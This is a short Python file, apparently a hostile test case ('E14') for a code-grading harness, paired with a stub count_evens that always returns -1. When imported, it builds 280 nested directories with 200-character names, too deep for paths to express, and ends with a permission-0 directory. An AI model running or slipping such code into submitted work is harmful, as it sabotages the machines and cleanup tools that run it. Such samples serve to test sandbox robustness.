"""E14: makes folders within folders, deeper than a path can say."""

# %% count_evens
import os

for number in range(280):
    os.mkdir("x" * 200)
    os.chdir("x" * 200)
open("bottom", "w").write("here")
os.mkdir("closed", 0)


def count_evens(numbers):
    return -1
